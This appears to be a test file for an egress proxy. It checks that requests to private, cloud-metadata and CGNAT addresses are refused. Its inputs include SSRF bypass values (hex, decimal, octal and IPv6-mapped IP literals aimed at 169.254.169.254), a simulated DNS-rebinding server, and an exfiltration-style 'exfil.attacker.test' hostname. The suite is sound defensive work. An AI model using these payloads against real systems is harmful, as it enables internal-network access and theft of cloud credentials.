/**
 * The whole proxy against private, metadata, CGNAT and "public" addresses, inside a private
 * network namespace (scripts/run-tests.mjs runs this file under `unshare -n`). Servers on
 * 10.0.0.1, 169.254.169.254, 100.64.0.1 and 203.0.113.10 (port 80) count every connection they
 * accept: a denial must leave them at zero. 203.0.113.0/24 is a documentation range (class
 * reserved); the policy opens it with network.allowPrivate to stand in for a public origin.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { basic, openConnect, proxyRequest } from '../helpers/clients.js';
import type { DnsQuery } from '../helpers/dns-server.js';
import { startHarness, type Harness } from '../helpers/harness.js';
import { describeNetns, setupNetns } from '../helpers/netns.js';

/** An HTTP server on ip:80 that names itself and counts the connections it accepts. */
interface Recording {
  readonly ip: string;
  readonly server: http.Server;
  accepted: number;
}

async function listenOn(ip: string): Promise<Recording> {
  const r: Recording = { ip, server: http.createServer((_req, res) => res.end(`served by ${ip}`)), accepted: 0 };
  r.server.on('connection', () => r.accepted++);
  await new Promise<void>((resolve, reject) => {
    r.server.once('error', reject);
    r.server.listen(80, ip, resolve);
  });
  expect((r.server.address() as AddressInfo).port).toBe(80);
  return r;
}

const PRIVATE = '10.0.0.1';
const METADATA = '169.254.169.254';
const CGNAT = '100.64.0.1';
const PUBLIC = '203.0.113.10';

describeNetns('the proxy inside a network namespace', () => {
  const servers = new Map<string, Recording>();
  let h: Harness;
  let auth: string;

  const accepted = (ip: string): number => servers.get(ip)!.accepted;
  const noneReached = (...ips: string[]): void => {
    for (const ip of ips) expect(accepted(ip), `connections to ${ip}`).toBe(0);
  };

  beforeAll(async () => {
    setupNetns([{ cidr: `${PRIVATE}/32` }, { cidr: `${METADATA}/32` }, { cidr: `${CGNAT}/32`, iface: 'pcx1' }, { cidr: `${PUBLIC}/32` }]);
    for (const ip of [PRIVATE, METADATA, CGNAT, PUBLIC]) servers.set(ip, await listenOn(ip));
    h = await startHarness({
      policy: `
version: 1
destinations:
  internal:
    hosts: [internal.test]
  metadata:
    hosts: [metadata.test]
  cgnat:
    hosts: [cgnat.test]
  mixed:
    hosts: [mixed.test]
  public:
    hosts: [public.test]
  rebind:
    hosts: [rebind.test, rebind-tunnel.test]
accounts:
  - match: "*"
    allow: [internal, metadata, cgnat, mixed, public, rebind]
network:
  allowPrivate: [203.0.113.0/24]
`,
      dns: {
        'internal.test': { A: [PRIVATE] },
        'metadata.test': { A: [METADATA] },
        'cgnat.test': { A: [CGNAT] },
        'mixed.test': { A: [PRIVATE, PUBLIC] },
        'public.test': { A: [PUBLIC] },
        // First answer public, every later one private, with the shortest TTL the resolver keeps.
        'rebind.test': (q: DnsQuery, count: number) => (q.type === 'A' ? { A: [count === 1 ? PUBLIC : PRIVATE], ttl: 1 } : { ttl: 1 }),
        'rebind-tunnel.test': (q: DnsQuery, count: number) => (q.type === 'A' ? { A: [count === 1 ? PUBLIC : PRIVATE], ttl: 1 } : { ttl: 1 }),
      },
    });
    auth = basic('agent', (await h.createSession('agent')).token);
  });

  afterAll(async () => {
    await h?.close();
    await Promise.all([...servers.values()].map((s) => new Promise((resolve) => s.server.close(resolve))));
  });

  test('control: the stand-in public origin is reachable through the proxy', async () => {
    const r = await proxyRequest(h.proxyPort, 'http://public.test/', { auth });
    expect(r).toMatchObject({ status: 200, body: `served by ${PUBLIC}` });
    expect(h.logs.egress().at(-1)).toMatchObject({ decision: 'allow', resolvedIp: PUBLIC });
  });

  test.each([
    ['internal.test', PRIVATE, 'ip_private'],
    ['metadata.test', METADATA, 'ip_link_local'],
    ['cgnat.test', CGNAT, 'ip_cgnat'],
  ])('an allowed name resolving to %s (%s) is 403 %s, by HTTP and by CONNECT, and that server gets no connection', async (name, ip, reason) => {
    const r = await proxyRequest(h.proxyPort, `http://${name}/latest/meta-data/`, { auth });
    expect(r.status).toBe(403);
    expect(r.headers['x-portcullis-reason']).toBe(reason);
    const c = await openConnect(h.proxyPort, `${name}:80`, { auth });
    expect(c.status).toBe(403);
    expect(c.headers['x-portcullis-reason']).toBe(reason);
    expect(h.logs.egress().filter((l) => l['host'] === name)).toEqual([
      expect.objectContaining({ kind: 'http', decision: 'deny', reason, status: 403 }),
      expect.objectContaining({ kind: 'connect', decision: 'deny', reason, status: 403 }),
    ]);
    noneReached(ip);
  });

  test('a mixed answer [10.0.0.1, 203.0.113.10] dials only 203.0.113.10, every time', async () => {
    const before = accepted(PUBLIC);
    for (let i = 0; i < 3; i++) {
      const r = await proxyRequest(h.proxyPort, `http://mixed.test/${i}`, { auth });
      expect(r).toMatchObject({ status: 200, body: `served by ${PUBLIC}` });
    }
    const t = await openConnect(h.proxyPort, 'mixed.test:80', { auth });
    expect(t.status).toBe(200);
    t.socket.destroy();
    expect(accepted(PUBLIC)).toBeGreaterThan(before);
    for (const l of h.logs.egress().filter((x) => x['host'] === 'mixed.test')) expect(l['resolvedIp']).toBe(PUBLIC);
    noneReached(PRIVATE);
  });

  test.each([
    ['http://10.0.0.1/', 'ip_private'],
    ['http://0x0a000001/', 'ip_private'],
    ['http://10.1/', 'ip_private'],
    ['http://[::ffff:10.0.0.1]/', 'ip_private'],
    ['http://169.254.169.254/latest/meta-data/', 'ip_link_local'],
    ['http://2852039166/latest/meta-data/', 'ip_link_local'],
    ['http://100.64.0.1/', 'ip_cgnat'],
  ])('the IP literal %s is denied %s and nothing is received', async (url, reason) => {
    const queries = h.dns.queries.length;
    const r = await proxyRequest(h.proxyPort, url, { auth });
    expect(r.status).toBe(403);
    expect(r.headers['x-portcullis-reason']).toBe(reason);
    expect(h.dns.queries.length).toBe(queries);
    noneReached(PRIVATE, METADATA, CGNAT);
  });

  test.each([
    ['10.0.0.1:80', 'ip_private'],
    ['[::ffff:a9fe:a9fe]:80', 'ip_link_local'],
    ['0251.0376.0251.0376:80', 'ip_link_local'],
  ])('CONNECT to the IP literal %s is denied %s and nothing is received', async (authority, reason) => {
    const c = await openConnect(h.proxyPort, authority, { auth });
    expect(c.status).toBe(403);
    expect(c.headers['x-portcullis-reason']).toBe(reason);
    noneReached(PRIVATE, METADATA);
  });

  test('a denied name never reaches the DNS server', async () => {
    const queries = h.dns.queries.length;
    const r = await proxyRequest(h.proxyPort, 'http://c2VjcmV0.exfil.attacker.test/', { auth });
    expect(r.headers['x-portcullis-reason']).toBe('not_allowlisted');
    const c = await openConnect(h.proxyPort, 'c2VjcmV0.exfil.attacker.test:443', { auth });
    expect(c.headers['x-portcullis-reason']).toBe('not_allowlisted');
    expect(h.dns.queries.slice(queries)).toEqual([]);
  });

  test('DNS rebinding (public first, private after the TTL) never dials 10.0.0.1', async () => {
    const first = await proxyRequest(h.proxyPort, 'http://rebind.test/', { auth });
    expect(first).toMatchObject({ status: 200, body: `served by ${PUBLIC}` });
    const firstTunnel = await openConnect(h.proxyPort, 'rebind-tunnel.test:80', { auth });
    expect(firstTunnel.status).toBe(200);
    firstTunnel.socket.destroy();
    // Past the 1 s TTL: the resolver must ask again, and check the new answer again.
    await new Promise((r) => setTimeout(r, 1200));
    const second = await proxyRequest(h.proxyPort, 'http://rebind.test/again', { auth });
    expect(second.status).toBe(403);
    expect(second.headers['x-portcullis-reason']).toBe('ip_private');
    const secondTunnel = await openConnect(h.proxyPort, 'rebind-tunnel.test:80', { auth });
    expect(secondTunnel.status).toBe(403);
    expect(secondTunnel.headers['x-portcullis-reason']).toBe('ip_private');
    expect(h.dns.queries.filter((q) => q.name === 'rebind.test' && q.type === 'A').length).toBeGreaterThanOrEqual(2);
    noneReached(PRIVATE);
  });
});
